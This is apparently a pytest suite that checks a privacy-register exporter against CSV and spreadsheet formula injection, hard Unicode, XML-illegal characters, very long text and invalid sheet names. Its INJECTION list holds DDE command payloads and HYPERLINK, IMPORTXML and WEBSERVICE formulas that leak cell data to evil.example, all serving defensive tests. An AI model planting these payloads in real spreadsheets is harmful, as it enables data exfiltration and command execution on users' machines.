"""Exports opened by people in spreadsheet applications: hostile text in every field of every entity.

A register whose every free-text field holds a formula, a DDE payload, right-to-left overrides, emoji,
combining marks, characters XML cannot carry, or 100,000 characters is exported to xlsx (and CSV), read
back with openpyxl and, where the importer exists, imported back. Nothing may become a formula, a link
or an unreadable package, and nothing may be lost.
"""

from __future__ import annotations

import csv
import itertools
import random
import re
import typing
import warnings
import xml.parsers.expat
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

import ropa
from ropa.export.json import register_to_json
from ropa.models import KINDS, Register, RopaModel

from ._helpers import run_cli
from ._models import FIELD_CASES, field_shape, is_country, strip_optional, valid_value

openpyxl = pytest.importorskip("openpyxl")
xlsx = pytest.importorskip("ropa.export.xlsx", reason="the xlsx exporter (ropa.export.xlsx) has not landed")

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

INJECTION = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"A1")',
    "+41 20 123 4567",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "\x00=1+1",  # the control character is removed; the formula that remains must stay text
    "\x07@SUM(1)",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example")',
]
UNICODE = [
    "مرحبا بالعالم",  # Arabic, right to left
    "שלום עולם",  # Hebrew
    "\u202eexe.txt\u202c",  # right-to-left override
    "👩‍👩‍👧‍👦 🇳🇱 🏳️‍🌈",  # ZWJ sequences and flags
    "e\u0301 a\u0308 Z\u0334\u0321\u031ba\u0337l\u0338g\u0336o\u0335",  # combining marks, zalgo
    "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𐍈",  # astral plane
    "\u200b\u200d\ufeff zero-width",
    "漢字かなカナ한국어",
    "a\u2028b\u2029c",
]
XML_ILLEGAL = ["a\x00b", "\x0bvertical\x0ctab", "\ufffe\uffff", "\x1b[31mred\x1b[0m", "x\x01\x02\x03\x08y"]


# --- a register with every free-text field filled -----------------------------------------------


def _free_text(annotation: Any, info: Any = None) -> bool:
    """A text field that takes any text (not an id, a country code or another pattern)."""
    pattern = re.compile(r"pattern=(?!None)")  # Id and CountryCode; a plain Text has pattern=None
    constrained = bool(
        pattern.search(repr(annotation)) or pattern.search(repr(getattr(info, "metadata", "")))
    )
    return field_shape(annotation) == "text" and not is_country(info, annotation) and not constrained


def _filled(model: type[RopaModel], texts: Iterator[str], depth: int = 0) -> dict[str, Any]:
    """An entity with every free-text field (nested ones and list items too) taken from ``texts``."""
    out: dict[str, Any] = {}
    for name, info in model.model_fields.items():
        bare = strip_optional(info.annotation)
        kind = field_shape(bare)
        if kind == "text" and _free_text(info.annotation, info):
            out[name] = next(texts)
        elif kind == "list":
            item = strip_optional(typing.get_args(bare)[0])
            if field_shape(item) == "model" and depth < 3:
                out[name] = [_filled(item, texts, depth + 1)]
            elif field_shape(item) == "text" and _free_text(typing.get_args(bare)[0]):
                out[name] = [next(texts), next(texts)]
            elif info.is_required():
                out[name] = valid_value(info.annotation, info)
        elif kind == "dict":
            out[name] = {"column a": next(texts), "column b": next(texts)}
        elif kind == "model" and depth < 3:
            out[name] = _filled(bare, texts, depth + 1)
        elif info.is_required():
            out[name] = valid_value(info.annotation, info)
    return out


def register_with(values: list[str]) -> Register:
    """A register with one entity of each kind, every free-text field set from ``values`` (cycled)."""
    texts = itertools.cycle(values)
    data: dict[str, Any] = {}
    for kind, model in KINDS.items():
        entity = _filled(model, texts)
        if "id" in model.model_fields:
            entity["id"] = f"{kind.replace('_', '-')}-1"
        data[kind] = entity if kind in ("register", "organisation") else [entity]
    activity = data["activities"][0]
    activity["recipients"] = [
        {"category": next(texts), "role": "processor", "country": "NL", "purpose": next(texts)},
        {"party": "parties-1", "purpose": next(texts)},
    ]
    activity["data_categories"] = ["data-categories-1"]
    activity["data_subjects"] = ["data-subjects-1"]
    activity["security_measures"] = ["security-measures-1"]
    data["register"]["language"] = "en"
    return Register.model_validate(data)


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for child in value.values():
            yield from _strings(child)
    elif isinstance(value, list):
        for child in value:
            yield from _strings(child)


def _export(register: Register, path: Path, lang: str = "en") -> list[str]:
    """Export, returning the messages of the export warnings."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ropa.export_xlsx(register, path, lang=lang)  # type: ignore[arg-type]
    return [str(w.message) for w in caught]


def _cells(path: Path) -> Iterator[tuple[str, Any]]:
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield ws.title, cell


def _xml_parts(path: Path) -> Iterator[tuple[str, bytes]]:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.endswith((".xml", ".rels")):
                yield name, archive.read(name)


def _import_back(path: Path) -> Register | None:
    try:
        from ropa.importer import import_file
    except ImportError:
        return None
    result = import_file(path)
    assert not [d for d in result.diagnostics if d.severity.value == "error"], result.diagnostics
    return result.register


def test_the_register_fills_every_free_text_field() -> None:
    dump = register_with(["text"]).dump()
    cases = [case for case in FIELD_CASES if _free_text(case.annotation, case.info)]
    assert len(cases) > 100
    for case in cases:
        if case.id == "register.language":  # set to 'en' so that the export has a language
            continue
        node: Any = dump[case.kind]
        for name in case.path:
            node = node[0] if isinstance(node, list) else node
            assert isinstance(node, dict), case.id
            assert name in node, case.id
            node = node[name]
        assert "text" in _strings(node), case.id


# --- formulas ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> tuple[Register, Path, list[str]]:
    register = register_with(INJECTION)
    path = tmp_path_factory.mktemp("injection") / "register.xlsx"
    return register, path, _export(register, path)


def test_no_cell_is_a_formula(injected: tuple[Register, Path, list[str]]) -> None:
    _, path, _ = injected
    checked = 0
    for title, cell in _cells(path):
        assert cell.data_type != "f", (title, cell.coordinate, cell.value)
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
            assert cell.quotePrefix, (title, cell.coordinate, cell.value)
            checked += 1
    assert checked > 50


def test_no_formula_link_or_external_part_in_the_package(injected: tuple[Register, Path, list[str]]) -> None:
    _, path, _ = injected
    with zipfile.ZipFile(path) as archive:
        names = archive.namelist()
    assert not [n for n in names if "externalLink" in n or n.endswith((".bin", "vbaProject.bin"))]
    for name, data in _xml_parts(path):
        if name.startswith("xl/worksheets/"):
            assert b"<f>" not in data
            assert b"<f " not in data
            assert b"<hyperlink" not in data
        if name.endswith(".rels"):
            assert b'TargetMode="External"' not in data, name


def test_every_injected_text_is_in_a_cell_exactly(injected: tuple[Register, Path, list[str]]) -> None:
    _, path, _ = injected
    values = {cell.value for _, cell in _cells(path) if isinstance(cell.value, str)}
    for text in INJECTION:
        visible = text.replace("\x00", "").replace("\x07", "").replace("\r", "\n")
        assert any(visible in value for value in values), repr(text)


def test_injected_register_imports_back_losslessly(injected: tuple[Register, Path, list[str]]) -> None:
    register, path, _ = injected
    back = _import_back(path)
    if back is None:
        pytest.skip("the importer (ropa.importer) has not landed")
    assert register_to_json(back) == register_to_json(register)


def test_csv_export_neutralises_formulas_in_every_field(tmp_path: Path) -> None:
    csv_module = pytest.importorskip("ropa.export.csv")
    register = register_with(INJECTION)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        csv_module.write_csv(register, tmp_path / "csv")  # type: ignore[attr-defined]
    checked = 0
    for path in sorted((tmp_path / "csv").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for row in csv.reader(handle):
                for field in row:
                    assert not field.startswith(FORMULA_START), (path.name, field)
                    checked += field.startswith("'")
    assert checked > 50


# --- text that is hard to carry ---------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "nl", "fr", "de"])
def test_unicode_survives_exactly(tmp_path: Path, lang: str) -> None:
    register = register_with(UNICODE)
    path = tmp_path / "register.xlsx"
    assert [m for m in _export(register, path, lang) if "control character" in m] == []
    values = {cell.value for _, cell in _cells(path) if isinstance(cell.value, str)}
    for text in UNICODE:
        assert any(text in value for value in values), repr(text)
    back = _import_back(path)
    if back is not None:
        assert register_to_json(back) == register_to_json(register)


def test_characters_xml_cannot_carry(tmp_path: Path) -> None:
    register = register_with(XML_ILLEGAL)
    path = tmp_path / "register.xlsx"
    messages = _export(register, path)
    assert any("control character" in m for m in messages), messages
    for _, data in _xml_parts(path):  # every part is well-formed XML 1.0 (Excel refuses others)
        parser = xml.parsers.expat.ParserCreate()
        parser.Parse(data, True)
    for _, cell in _cells(path):
        if isinstance(cell.value, str):
            assert not any(c in cell.value for c in "\x00\x01\x0b\x0c\x1b\ufffe\uffff"), repr(cell.value)
    back = _import_back(path)
    if back is not None:  # the hidden copy keeps them, escaped
        assert register_to_json(back) == register_to_json(register)


def _prose(seed: int, size: int) -> str:
    """``size`` characters of seeded random words: text that compresses like real text."""
    rng = random.Random(seed)  # noqa: S311 - reproducible test data
    words = ["verwerking", "données", "Daten", "retention", "контракт", "顧客", "😀", "e\u0301"]
    out: list[str] = []
    length = 0
    while length < size:
        word = rng.choice(words) + rng.choice(" ,.\n") + str(rng.randrange(1000))
        out.append(word)
        length += len(word)
    return "".join(out)[:size]


def test_hundred_thousand_characters_in_many_fields(tmp_path: Path) -> None:
    """Every fourth free-text field (about 40, of every kind of entity) holds 100,000 characters."""
    texts = [_prose(0, 100_000), "a", _prose(1, 50), "b"]
    register = register_with(texts)
    path = tmp_path / "register.xlsx"
    messages = _export(register, path)
    assert any("32,767" in m for m in messages), messages
    longest = max(len(cell.value) for _, cell in _cells(path) if isinstance(cell.value, str))
    assert longest <= 32_767
    back = _import_back(path)
    if back is not None:  # the full texts come back from the hidden copy
        assert register_to_json(back) == register_to_json(register)


def test_repetitive_long_text_imports_back(tmp_path: Path) -> None:
    pytest.importorskip("ropa.importer")
    register = register_with([c * 100_000 for c in "-=_.~*#+ab"])
    path = tmp_path / "register.xlsx"
    _export(register, path)
    back = _import_back(path)
    assert back is not None
    assert register_to_json(back) == register_to_json(register)


# --- sheet names ------------------------------------------------------------------------------

_FORBIDDEN_IN_SHEET_NAMES = set("[]:*?/\\")


@pytest.mark.parametrize("lang", ["en", "nl", "fr", "de"])
def test_sheet_names_are_valid_and_distinct(tmp_path: Path, lang: str) -> None:
    """Excel: at most 31 characters, none of []:*?/\\, not 'History', unique without regard to case."""
    from ropa.diagnostics import Diagnostic, Location, Report, Severity

    register = register_with(["x"])
    report = Report.build([Diagnostic("ACT-001", "missing-purpose", Severity.ERROR, "m", Location("a.yaml"))])
    path = tmp_path / "register.xlsx"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ropa.export_xlsx(register, path, lang=lang, report=report)  # type: ignore[arg-type]
    names = openpyxl.load_workbook(path, read_only=True).sheetnames
    assert len(names) >= 10
    assert len({n.casefold() for n in names}) == len(names), names
    for name in names:
        assert 0 < len(name) <= 31, name
        assert not set(name) & _FORBIDDEN_IN_SHEET_NAMES, name
        assert not name.startswith("'")
        assert not name.endswith("'")
        assert name.casefold() != "history"


# --- the CLI on a hostile register ------------------------------------------------------------


def test_cli_exports_a_hostile_register(tmp_path: Path) -> None:
    register = register_with([*INJECTION[:4], *UNICODE[:4], "x" * 100_000])
    folder = tmp_path / "register"
    folder.mkdir()
    (folder / "register.yaml").write_text(register_to_json(register), encoding="utf-8")  # JSON is YAML
    out = tmp_path / "out.xlsx"
    run = run_cli("export", folder, "-o", out, "--today", "2026-06-01", timeout=120)
    assert run.returncode in (0, 1), run.output[-3000:]
    assert not run.traceback
    assert "internal error" not in run.stderr
    assert out.exists()
    assert not [c for _, c in _cells(out) if c.data_type == "f"]
